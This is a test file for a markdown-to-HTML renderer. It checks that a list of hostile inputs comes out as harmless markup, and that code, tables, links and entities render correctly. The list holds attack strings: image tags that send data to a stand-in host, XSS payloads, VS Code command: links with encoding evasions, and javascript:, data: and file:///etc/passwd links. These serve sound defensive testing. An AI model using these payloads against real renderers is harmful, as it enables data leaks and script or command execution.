// What a model writes is shown, and does nothing.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';

const source = fileURLToPath(new URL('../src/markdown.ts', import.meta.url));
const { outputFiles } = await build({
  entryPoints: [source],
  bundle: true,
  write: false,
  format: 'esm',
  platform: 'node',
});
const code = Buffer.from(outputFiles[0].text).toString('base64');
const { escapeHtml, renderMarkdown } = await import(`data:text/javascript;base64,${code}`);

const HOSTILE = [
  '![x](https://evil.example/?q=secret)',
  '![x][1]\n\n[1]: https://evil.example/x.png',
  '[![x](https://evil.example/x.png)](https://evil.example)',
  '<img src="https://evil.example/x.png">',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=a></form>',
  '<a href="command:workbench.action.terminal.new">run</a>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x"></object>',
  '[run](command:workbench.action.terminal.new)',
  '[run](COMMAND:workbench.action.terminal.new)',
  '[run](command&colon;workbench.action.terminal.new)',
  '[run](&#99;ommand:workbench.action.terminal.new)',
  '[run][1]\n\n[1]: command:workbench.action.terminal.new',
  '<command:workbench.action.terminal.new>',
  '[run](javascript:alert(1))',
  '[run](data:text/html,<script>alert(1)</script>)',
  '[run](file:///etc/passwd)',
  '[run](vscode://file/etc/passwd)',
  '[run](//evil.example)',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x>`',
  '| <b>a</b> |\n| --- |\n| <img src=x> |',
];

const HARMLESS =
  /^<(\/?(p|a|code|pre|table|thead|tbody|tr|th|td)|a href="https:\/\/[^"]*"|code class="[\w-]+")>$/;

for (const text of HOSTILE) {
  test(`does nothing: ${JSON.stringify(text)}`, () => {
    const html = renderMarkdown(text);
    for (const [tag] of html.matchAll(/<[^>]*>/g)) {
      assert.match(tag, HARMLESS);
    }
  });
}

test('code, lists, tables and web links are shown', () => {
  const text = '# A\n\n- `b`\n\n| c |\n| --- |\n| d |\n\n[e](https://example.org)\n\n```py\nf = 1\n```';
  const html = renderMarkdown(text);
  for (const part of ['<h1>A', '<code>b', '<td>d', '<a href="https://example.org">e', 'f = 1']) {
    assert.ok(html.includes(part), part);
  }
});

test('entities are shown as what they stand for', () => {
  const html = renderMarkdown('&eacute; &#8212; &lt;b&gt; [e](https://example.org/?a=1&amp;b=2)');
  assert.ok(html.includes('é — &lt;b&gt;'), html);
  assert.ok(html.includes('href="https://example.org/?a=1&amp;b=2"'), html);
});

test('a title is text', () => {
  assert.equal(escapeHtml('<b>"a" & b</b>'), '&lt;b&gt;&quot;a&quot; &amp; b&lt;/b&gt;');
});
